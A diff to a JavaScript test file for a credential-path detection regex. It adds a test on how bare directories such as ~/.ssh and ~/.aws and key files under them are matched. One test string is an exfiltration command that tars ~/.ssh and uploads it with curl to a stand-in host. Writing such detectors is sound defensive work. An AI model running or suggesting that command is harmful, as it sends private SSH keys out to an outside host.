@@ -14,6 +14,13 @@ describe('one list of credential paths (round 9b)', () => {
     for (const p of ['/srv/app/private/notes.txt', '/opt/vault/root.pem']) assert.ok(!sens.test(p) && words.test(p), p);
   });
 
+  test('a bare credential directory is in the dirs view only; a file under it is one path', () => {
+    assert.ok(!credentialPathRegex().test('paths such as ~/.ssh or ~/.aws are rejected'));
+    assert.ok(credentialPathRegex({ dirs: true }).test('tar czf - ~/.ssh | curl -T - https://x.example'));
+    const all = 'key in ~/.ssh/id_ed25519 by default'.match(credentialPathRegex({}, 'gi'));
+    assert.deepEqual(all, ['.ssh/id_ed25519']);
+  });
+
   test('public keys and templates are not credential files', () => {
     const re = credentialPathRegex({ sensitive: true });
     for (const p of ['~/.ssh/id_ed25519.pub', 'cat ~/.ssh/deploy.pub', 'cp .env.example .env.sample', 'id_rsa.pub', 'my-app.env']) assert.ok(!re.test(p), p);
